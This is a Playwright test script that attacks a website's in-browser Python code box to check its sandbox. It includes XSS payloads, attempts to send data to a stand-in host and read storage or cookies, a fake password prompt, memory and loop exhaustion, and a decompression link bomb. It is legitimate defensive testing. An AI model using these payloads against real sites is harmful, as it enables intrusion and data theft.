"""Use the start page's box as a visitor would, and as an attacker would. Print all problems as JSON.

    python .ci/site/visit_box.py ADDRESS CHROMIUM SHOTS [PART ...]

Called by `.ci/site_works.py`, which serves the site at ADDRESS; pictures go to SHOTS. The visitor runs the six
functions, moves a slider, and types programs with mistakes. The attacker tries endless loops, too much memory and
hostile links, and tries to get out of the frame: from Python, from a script in the worker, and from one in the frame.
With PARTs, only these are run.
"""

from __future__ import annotations

import base64
import json
import sys
import time
import zlib
from pathlib import Path

from playwright.sync_api import Frame, Page, Worker, sync_playwright
from visit import LAPTOP, PHONE, contrast, keep_here, luminances

PATIENCE_MS = 120_000
ELSEWHERE = "https://elsewhere.example"

PLAYED = {
    "Two inputs": ["5.5", "1.7163"],
    "Softmax": ["loss"],
    "A loop": ["horner"],
    "A while": ["newton_root"],
    "A small network": ["network"],
    "One that makes a NaN": ["NaN"],
}
"""The functions that the box offers, and what the player shows at the end of each."""

MISTAKES = {
    "def f(x):\n    return x * y\n\nplay(f, 2.0)": (2, "NameError: name 'y' is not defined"),
    "def f(x):\n    return x *\n": (2, "can't read this line"),
    "import math\ndef f(x):\n    return math.sin(x)\nplay(f, 2.0)": (3, "np.sin(x)"),
    "import torch": (1, "There is no torch in this page"),
    "def f(x, y):\n    return x * y": (2, "play(f, 2.0, 5.0)"),
    "raise SystemExit": (1, "SystemExit"),
    "def f(x):\n    while x > 0:\n        x = x + 1\n    return x\nplay(f, 1.0)": (3, ""),
    "raise ValueError('<img src=x onerror=\"window.ran = 1\">' * 500)": (1, "<img src=x"),
}
"""Programs with a mistake, each with the line that must be marked and words of the message."""

HUNGRY = (
    "a = bytearray(2 * 10**9)",
    "a = np.ones(3 * 10**8)",
    "a = []\nwhile True:\n    a.append(bytearray(10**7))",
)

# Ways to other data or to the network; the program's last line names those that didn't fail.
ESCAPES = f"""
import asyncio, importlib, os, socket, sys, urllib.request
held = []
def attempt(name, way):
    try:
        found = way()
    except BaseException:
        return
    held.append(f"{{name}}: {{found!r}}")

import js
attempt("js.fetch", lambda: js.fetch("{ELSEWHERE}/js"))
attempt("js.XMLHttpRequest", lambda: js.XMLHttpRequest)
attempt("js.indexedDB", lambda: js.indexedDB)
attempt("js.postMessage", lambda: js.postMessage)
attempt("js.eval", lambda: js.eval("1"))
attempt("constructor", lambda: js.constructor.constructor("return globalThis")())
attempt("run_js", lambda: importlib.import_module("pyodide.code").run_js("globalThis.fetch('{ELSEWHERE}/run')"))
attempt("open_url", lambda: importlib.import_module("pyodide.http").open_url("{ELSEWHERE}/open").read())
attempt("urlopen", lambda: urllib.request.urlopen("{ELSEWHERE}/urllib", timeout=2).read())
def connect():
    one = socket.create_connection(("127.0.0.1", 80), timeout=2)
    one.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
    return one.recv(1)
attempt("socket", connect)
attempt("system", lambda: os.system("true") == 0 or 1 / 0)
raise ValueError("held: " + "; ".join(held))
"""

# The end of both functions below: tries every way, and returns the names of those that weren't refused.
TRY_ALL = """  const held = [];
  for (const [name, way] of Object.entries(ways)) {
    const late = new Promise((_, reject) => setTimeout(reject, 2000));
    late.catch(() => {});
    try { await Promise.race([way(), late]); held.push(name); } catch {}
  }
  return held;
}"""

# What a script in the worker could try, if a program managed to run one there.
IN_WORKER = (
    """async (elsewhere) => {
  const ways = {
    fetch: () => WorkerGlobalScope.prototype.fetch?.call(self, `${elsewhere}/fetch`) ?? Promise.reject(),
    fetchHere: () => fetch(elsewhere),
    xhr: () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open("GET", `${elsewhere}/xhr`);
      x.onload = resolve; x.onerror = reject; x.send(); }),
    socket: () => new Promise((resolve, reject) => { const s = new WebSocket("wss://elsewhere.example/ws");
      s.onopen = resolve; s.onerror = reject; }),
    events: () => new Promise((resolve, reject) => { const s = new EventSource(`${elsewhere}/events`);
      s.onopen = resolve; s.onerror = reject; }),
    script: () => importScripts(`${elsewhere}/script.js`),
    module: () => import(`${elsewhere}/module.js`),
    data: () => import("data:text/javascript,export default 1"),
    eval: () => (0, eval)("1"),
    database: () => new Promise((resolve, reject) => { const o = indexedDB.open("lite");
      o.onsuccess = resolve; o.onerror = reject; }),
    caches: () => caches.keys(),
    files: () => navigator.storage.getDirectory(),
    font: async () => { const f = new FontFace("a", `url(${elsewhere}/font)`); await f.load(); },
    transport: async () => { const t = new WebTransport(`${elsewhere}/transport`); await t.ready; },
    nested: () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob([
      `fetch("${elsewhere}/nested").then(() => postMessage(1), () => postMessage(0))`])));
      w.onmessage = ({ data }) => data ? resolve() : reject(); w.onerror = reject; }),
    dataWorker: () => new Promise((resolve, reject) => { const w = new Worker("data:text/javascript,postMessage(1)");
      w.onmessage = resolve; w.onerror = reject; }),
  };
"""
    + TRY_ALL
)

# What a script in the frame could try.
IN_FRAME = (
    """async (elsewhere) => {
  const asked = (make) => new Promise((resolve, reject) => Object.assign(make(), { onload: resolve, onerror: reject }));
  const ways = {
    storage: () => localStorage.length,
    session: () => sessionStorage.length,
    cookie: () => document.cookie + (document.cookie = "a=1"),
    database: () => new Promise((resolve, reject) => { const o = indexedDB.open("lite");
      o.onsuccess = resolve; o.onerror = reject; }),
    page: () => parent.document.title,
    top: () => { top.location.href = `${elsewhere}/top`; },
    popup: () => { if (!open(`${elsewhere}/popup`)) throw 0; },
    dialog: () => { if (prompt("Your password?") === null) throw 0; },
    fetch: () => fetch(`${elsewhere}/frame`),
    beacon: () => { navigator.sendBeacon(`${elsewhere}/beacon`); throw 0; }, // true, also where it is not sent
    image: () => asked(() => Object.assign(new Image(), { src: `${elsewhere}/image` })),
    script: () => asked(() => { const e = document.createElement("script"); e.src = `${elsewhere}/s.js`;
      document.body.append(e); return e; }),
    inline: () => { const e = document.createElement("script"); e.textContent = "window.inlineRan = 1";
      document.body.append(e); if (!window.inlineRan) throw 0; },
    handler: async () => { const e = document.createElement("div");
      e.innerHTML = "<img src='data:,' onerror='window.handlerRan = 1'>"; document.body.append(e);
      await new Promise((resolve) => setTimeout(resolve, 300)); if (!window.handlerRan) throw 0; },
    eval: () => (0, eval)("1"),
    camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
    clipboard: () => navigator.clipboard.readText(),
    fullscreen: () => document.documentElement.requestFullscreen(),
    nested: () => asked(() => { const e = document.createElement("iframe"); e.src = `${elsewhere}/nested`;
      document.body.append(e); return e; }).then(() => { if (frames.length && !frames[0].length) throw 0; }),
  };
"""
    + TRY_ALL
)


def link_to(program: str) -> str:
    """Write a program into the fragment of an address, as `Player.link` does."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    packed = packer.compress(program.encode()) + packer.flush()
    return "#function=" + base64.urlsafe_b64encode(packed).decode().rstrip("=")


class Visitor:
    """A visitor who uses the box, and notes problems."""

    def __init__(self, page: Page, address: str, shots: Path) -> None:
        self.page = page
        self.address = address
        self.shots = shots
        self.wrong: list[str] = []
        self.seconds: dict[str, float] = {}
        page.on("pageerror", lambda error: self.wrong.append(f"an error in a script: {error}"))
        page.on("dialog", self.note_dialog)

    def note_dialog(self, dialog: object) -> None:
        """Note that a dialog was opened: a visitor would believe that it comes from the site."""
        self.wrong.append(f"a dialog was shown: {dialog}")
        dialog.dismiss()

    def expect(self, holds: object, what: str) -> None:
        """Note a problem if a condition doesn't hold."""
        if not holds:
            self.wrong.append(f"the box: {what}")

    def open(self, fragment: str = "", screen: dict[str, int] = LAPTOP) -> None:
        """Load the start page, with a fragment in its address."""
        self.page.set_viewport_size(screen)
        self.page.goto("about:blank")
        self.page.goto(f"{self.address}/index.html{fragment}")
        self.page.locator("#box").wait_for()

    def run(self, program: str | None = None) -> None:
        """Type a program, if one is given, and run it to its end."""
        self.begin(program)
        # The button is disabled while a program runs.
        self.page.locator(".box-run:not([aria-disabled=true])").wait_for(timeout=PATIENCE_MS)

    def begin(self, program: str | None = None) -> None:
        """Type a program, if one is given, and press the button."""
        if program is not None:
            self.page.locator("#box-program").fill(program)
        # with the keyboard, because the page may still be scrolling to a player
        self.page.locator(".box-run").press("Enter")

    def said(self, where: str) -> str:
        """Return the words in a part of the box: `wrong` or `status`."""
        return self.page.locator(f".box-{where}").inner_text()

    @property
    def frame(self) -> Frame:
        """The frame in which the program plays."""
        return next(frame for frame in self.page.frames if frame.url == "about:srcdoc")

    @property
    def worker(self) -> Worker:
        """The worker in that frame."""
        return self.page.workers[0]

    def functions(self) -> None:
        """Check that the six functions play, in light and dark, on a laptop and on a phone."""
        self.open()
        for name, ends in PLAYED.items():
            self.page.locator(".box-offers button", has_text=name).press("Enter")
            begun = time.monotonic()
            self.run()
            self.seconds[name] = round(time.monotonic() - begun, 1)
            wrong = self.said("wrong")
            self.expect(not wrong, f"{name} gets the answer {wrong!r}")
            player = self.frame.locator(".adl-player")
            player.wait_for()
            box = self.page.locator(".box-place").bounding_box()
            self.expect(box["height"] > 200, f"the player of {name} is {box['height']} px high")
            # it starts without a click
            self.frame.locator(".adl-player:not([data-phase=start])").wait_for()
            player.focus()
            self.page.keyboard.press("End")
            self.frame.locator(".adl-player[data-phase=sweep]").wait_for()
            text = player.inner_text()
            self.expect(
                all(part in text for part in ends), f"the player of {name} doesn't end with {ends}"
            )
            self.page.screenshot(path=self.shots / f"box-{name.replace(' ', '-').lower()}.png")
        for screen, theme in ((LAPTOP, "dark"), (PHONE, "light"), (PHONE, "dark")):
            self.page.set_viewport_size(screen)
            self.page.evaluate(
                "(theme) => { document.documentElement.dataset.theme = theme; }", theme
            )
            self.page.wait_for_timeout(800)
            self.page.locator(".box-place").scroll_into_view_if_needed()
            self.page.screenshot(path=self.shots / f"box-{screen['width']}-{theme}.png")
            wide = self.page.evaluate("document.documentElement.scrollWidth")
            self.expect(wide <= screen["width"], f"{wide} px wide on a screen of {screen['width']}")
            ink, paper = (float(light) for light in luminances(self.frame.locator(".adl-player")))
            self.expect(
                (ink < paper) == (theme == "light"), f"the player is not {theme} on a {theme} page"
            )
            self.expect(
                contrast(ink, paper) >= 4.5,
                f"the {theme} player has a contrast of {contrast(ink, paper):.1f}",
            )
        self.page.set_viewport_size(LAPTOP)

    def slider(self) -> None:
        """Check that a slider of the player runs the function again."""
        self.run("def f(x):\n    return x * x\n\nplay(f, 3.0)")
        self.frame.locator(".adl-player:not([data-phase=start])").wait_for()
        focused = self.page.evaluate("document.activeElement.className")
        self.expect(focused == "box-run", f"the player took the focus when it started: {focused}")
        slider = self.frame.locator(".adl-inputs input[type=range]").first
        slider.focus()
        for _ in range(5):
            self.page.keyboard.press("ArrowRight")
        self.frame.locator(".adl-inputs", has_text="3.25").wait_for(timeout=10_000)
        self.page.wait_for_timeout(1500)
        self.expect(
            "10.5625" in self.frame.locator(".adl-player").inner_text(),
            "the slider doesn't run the function again",
        )

    def mistakes(self) -> None:
        """Check that each mistake gets a message, and that its line is marked."""
        for program, (line, words) in MISTAKES.items():
            self.run(program)
            wrong = self.said("wrong")
            self.expect(
                wrong.startswith(f"Line {line}: ") and words in wrong,
                f"{program!r} gets the answer {wrong!r}",
            )
            mark = self.page.locator(".box-mark")
            self.expect(
                mark.get_attribute("data-line") == str(line),
                f"{program!r} isn't marked at line {line}",
            )
        self.page.screenshot(path=self.shots / "box-mistake.png")
        self.expect(
            self.page.evaluate("window.ran") is None, "the message of an exception ran as HTML"
        )

    def hunger(self) -> None:
        """Check that a program that needs 2 GB is refused, and that the next function runs."""
        for program in HUNGRY:
            self.run(program)
            self.expect(
                "more memory" in self.said("wrong"),
                f"{program!r} gets the answer {self.said('wrong')!r}",
            )
        self.run("def f(x):\n    return x * x\n\nplay(f, 3.0)")
        self.expect(
            "f(x)" in self.said("status"),
            f"after a program that needed too much memory, the status is {self.said('status')!r}",
        )

    def escapes(self) -> None:
        """Check that no other data and no network is reached: by Python, by a script in the worker or in the frame."""
        self.page.evaluate("localStorage.setItem('mine', 'secret')")
        self.run(ESCAPES)
        self.expect(
            self.said("wrong").endswith("held: "), f"Python reaches too much: {self.said('wrong')}"
        )
        held = self.worker.evaluate(IN_WORKER, ELSEWHERE)
        self.expect(not held, f"a script in the worker reaches {held}")
        held = self.frame.evaluate(IN_FRAME, ELSEWHERE)
        self.expect(not held, f"a script in the frame reaches {held}")
        self.expect(self.page.url.startswith(self.address), f"the page was sent to {self.page.url}")
        self.page.evaluate("localStorage.removeItem('mine')")

    def forgeries(self) -> None:
        """Check that forged messages do nothing, and that their contents are at most shown as text."""
        hostile = "<img src=x onerror='window.ran = 1'>"
        self.run("def f(x):\n    return x * x\n\nplay(f, 3.0)")
        before = self.said("status")
        forged = {
            "played": {"title": hostile},
            "wrong": {"line": 1, "text": hostile},
            "height": 9e9,
            "failed": "x",
        }
        self.page.evaluate("(forged) => postMessage(forged, '*')", forged)
        self.frame.evaluate("(forged) => parent.postMessage(forged, '*')", forged)
        self.page.wait_for_timeout(300)
        self.expect(
            self.said("status") == before, "the page took a message to the window for the frame's"
        )
        answer = json.dumps({"title": hostile, "line": 1e99, "text": hostile, "state": None})
        self.worker.evaluate("(answer) => postMessage({ answer })", answer)
        self.worker.evaluate(
            "() => { for (let k = 0; k < 20000; k += 1) postMessage({ answer: '{}' }); }"
        )
        self.page.wait_for_timeout(500)
        self.expect(
            self.page.evaluate("window.ran") is None, "a message from the worker ran as HTML"
        )
        self.frame.evaluate("(there) => { location.href = there; }", f"{ELSEWHERE}/gone")
        self.page.wait_for_timeout(1500)
        self.expect(
            not self.page.locator(".box-place iframe").count(),
            "a frame that went elsewhere stays on the page",
        )

    def endless(self) -> None:
        """Check that an endless loop is stopped, by the button and by the timeout, and doesn't block the page."""
        loop = "while True:\n    pass"
        self.begin(loop)
        self.page.locator(".box-status", has_text="Your function runs").wait_for(
            timeout=PATIENCE_MS
        )
        self.page.wait_for_timeout(1000)
        begun = time.monotonic()
        self.page.evaluate("1")
        self.page.locator(".box-stop").press("Enter")
        self.page.locator(".box-status", has_text="Stopped.").wait_for(timeout=2000)
        self.expect(time.monotonic() - begun < 2, "the page hangs while a loop runs")
        self.expect(not self.page.workers, "the worker still exists after Stop")
        self.begin(loop)
        self.page.locator(".box-status", has_text="not finished after 20 seconds").wait_for(
            timeout=PATIENCE_MS
        )
        self.expect(not self.page.workers, "the worker still exists after the timeout")

    def links(self) -> None:
        """Check that a link's function is shown but doesn't run, and that a broken link changes nothing."""
        hostile = "</textarea><img src=x onerror='window.ran = 1'>\n\u202eplay(f, 2.0)\nraise ValueError('it ran')"
        self.open(link_to(hostile))
        self.page.locator(".box-came").wait_for()
        typed = self.page.locator("#box-program").input_value()
        self.expect(
            typed == hostile.replace("\u202e", "\ufffd"),
            f"the link's function is shown as {typed!r}",
        )
        self.page.locator("#box-program").focus()  # Python starts, and the function waits
        self.page.wait_for_timeout(4000)
        self.page.screenshot(path=self.shots / "box-link.png")
        shown = [
            self.said("wrong"),
            self.page.evaluate("window.ran"),
            self.page.locator(".is-playing").count(),
        ]
        self.expect(shown == ["", None, 0], f"the link ran without a press of the button: {shown}")
        bomb = link_to("x" * 10_000_000)
        for fragment in (
            "#function=%3Cscript%3E",
            "#function=AAAA",
            bomb,
            "#function=" + "A" * 9000,
        ):
            self.open(fragment)
            self.page.wait_for_timeout(300)
            typed = self.page.locator("#box-program").input_value()
            self.expect(
                typed.startswith("def f(x1, x2)"),
                f"{fragment[:40]} was taken for a function: {typed[:40]!r}",
            )
        self.open(link_to("def g(x):\n    return x * x\n\nplay(g, 3.0)"))
        self.run()
        self.expect(
            "g(x)" in self.said("status"), f"a link's function doesn't play: {self.said('status')}"
        )


PARTS = ("functions", "slider", "mistakes", "hunger", "escapes", "forgeries", "endless", "links")


def main() -> None:
    """Try all parts, or those that the command line names, and print the result."""
    address, chromium, shots = sys.argv[1:4]
    refused: set[str] = set()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=chromium, args=["--no-sandbox", "--disable-gpu"]
        )
        context = browser.new_context()
        context.route("**/*", keep_here(address, refused))
        visitor = Visitor(context.new_page(), address, Path(shots))
        begun = time.monotonic()
        for part in sys.argv[4:] or PARTS:
            getattr(visitor, part)()
            print(part, round(time.monotonic() - begun), file=sys.stderr, flush=True)
        browser.close()
    # A script in the frame may send the frame itself elsewhere, which the part `forgeries` does.
    asked = sorted(url for url in refused if url != f"{ELSEWHERE}/gone")
    wrong = [f"refused: {url}" for url in asked] + visitor.wrong
    print(json.dumps({"wrong": wrong, "seconds": visitor.seconds}))


if __name__ == "__main__":
    main()
